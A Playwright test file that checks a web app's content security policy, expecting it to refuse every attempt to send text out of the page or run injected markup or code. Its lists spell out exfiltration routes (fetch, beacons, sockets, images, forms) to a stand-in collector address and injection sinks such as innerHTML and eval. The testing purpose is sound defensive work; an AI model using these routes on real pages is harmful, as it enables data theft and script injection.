import { BriefPage } from '../pages/brief-page.ts';
import { expect, test } from '../pages/program.ts';
import { newViolations, watchViolations } from './violations.ts';

test.describe('the content security policy', () => {
  test('stops nothing that the program itself does', async ({ program }) => {
    const { page } = program;
    await watchViolations(program);
    const brief = new BriefPage(page);
    await page.getByRole('button', { name: /^Open the sample/ }).click();
    await brief.waitUntilOpen();
    await brief.typeAtEnd('Bottom line', ' Thiss is typed.');
    await brief.waitUntilSaved();
    await page.keyboard.press('Control+b');
    await page.keyboard.press('Control+f');
    await page.keyboard.press('Escape');
    await page.keyboard.press('Control+k');
    await page.keyboard.type('export');
    await page.keyboard.press('Escape');
    await page.keyboard.press('Control+Shift+p');
    await expect
      .poll(() => page.locator('img[src^="blob:"]').count(), { timeout: 20_000 })
      .toBeGreaterThan(0);
    await page.keyboard.press('Control+/');
    await page.keyboard.press('Escape');
    expect(await newViolations(page)).toEqual([]);
  });

  const elsewhere = 'https://example.com/collect';

  /** Ways out of the page; each says "refused" when the page could not take it. */
  const waysOut: Record<string, (address: string) => Promise<string>> = {
    fetch: (address) =>
      fetch(address).then(
        () => 'done',
        () => 'refused',
      ),
    'a request of the old kind': (address) =>
      new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.onload = () => resolve('done');
        request.onerror = () => resolve('refused');
        request.open('GET', address);
        request.send();
      }),
    'a socket': (address) =>
      new Promise((resolve) => {
        try {
          const socket = new WebSocket(address.replace('https', 'wss'));
          socket.onopen = () => resolve('done');
          socket.onerror = () => resolve('refused');
        } catch {
          resolve('refused');
        }
      }),
    'a stream of events': (address) =>
      new Promise((resolve) => {
        const source = new EventSource(address);
        source.onopen = () => resolve('done');
        source.onerror = () => resolve('refused');
      }),
    'a beacon': (address) =>
      new Promise((resolve) => {
        addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
        navigator.sendBeacon(address, 'words of a brief');
        setTimeout(() => resolve('done'), 3_000);
      }),
    'a picture': (address) =>
      new Promise((resolve) => {
        const picture = new Image();
        picture.onload = () => resolve('done');
        picture.onerror = () => resolve('refused');
        picture.src = `${address}?words`;
      }),
    'a picture written into its own address': () =>
      new Promise((resolve) => {
        const picture = new Image();
        picture.onload = () => resolve('done');
        picture.onerror = () => resolve('refused');
        picture.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';
      }),
    'a style sheet': (address) =>
      new Promise((resolve) => {
        const link = document.createElement('link');
        link.rel = 'stylesheet';
        link.href = address;
        link.onload = () => resolve('done');
        link.onerror = () => resolve('refused');
        document.head.append(link);
      }),
    'a module': (address) =>
      import(/* @vite-ignore */ address).then(
        () => 'done',
        () => 'refused',
      ),
    'a page within the page': (address) =>
      new Promise((resolve) => {
        addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
        const frame = document.createElement('iframe');
        frame.src = address;
        document.body.append(frame);
        setTimeout(() => resolve('done'), 3_000);
      }),
    'a form': (address) =>
      new Promise((resolve) => {
        addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
        const form = document.createElement('form');
        form.action = address;
        form.method = 'post';
        document.body.append(form);
        form.submit();
        setTimeout(() => resolve('done'), 3_000);
      }),
    'the program’s own files by fetch': () =>
      fetch('/index.html').then(
        () => 'done',
        () => 'refused',
      ),
  };

  test('lets nothing out of the page', async ({ program }) => {
    const { page } = program;
    await watchViolations(program);
    for (const [name, way] of Object.entries(waysOut)) {
      const outcome = await page.evaluate(way, elsewhere);
      const stopped = await newViolations(page);
      expect.soft([name, outcome, stopped.length > 0]).toEqual([name, 'refused', true]);
    }
  });

  /** Ways to make text run or become markup; tried in a timer, where the policy holds for evaluated code too. */
  const waysToRun: Record<string, () => unknown> = {
    innerHTML: () => {
      document.body.innerHTML = '<b>x</b>';
    },
    outerHTML: () => {
      document.body.outerHTML = '<b>x</b>';
    },
    insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
    'document.write': () => document.write('<b>x</b>'),
    'a document parsed from text': () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
    'a fragment of a range': () => document.createRange().createContextualFragment('<b>x</b>'),
    'the source of a frame': () => {
      document.createElement('iframe').srcdoc = '<b>x</b>';
    },
    eval: () => Reflect.apply(Reflect.get(globalThis, 'eval'), globalThis, ['1']),
    'a made function': () => Reflect.construct(Function, ['return 1']),
    'a timer with text': () => Reflect.apply(setTimeout, globalThis, ['1']),
    'the text of a script': () => {
      document.createElement('script').text = 'window.ran = true';
    },
    'the source of a script': () => {
      document.createElement('script').src = '/assets/x.js';
    },
    'a worker from an address': () => new Worker('/assets/x.js'),
    'a policy of its own': () => {
      const { trustedTypes } = globalThis as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
    },
  };

  test('lets no text run or become markup', async ({ program }) => {
    const { page } = program;
    await watchViolations(program);
    for (const [name, way] of Object.entries(waysToRun)) {
      const outcome = await page.evaluate<string>(`new Promise((resolve) => setTimeout(() => {
        try {
          (${way})();
          resolve('done');
        } catch (error) {
          resolve(error.name);
        }
      }))`);
      expect.soft(outcome, name).toMatch(/^(TypeError|EvalError)$/);
      expect
        .soft((await newViolations(page)).join(), name)
        .toMatch(/^(require-trusted-types|trusted-types|script-src)/);
    }
  });
});
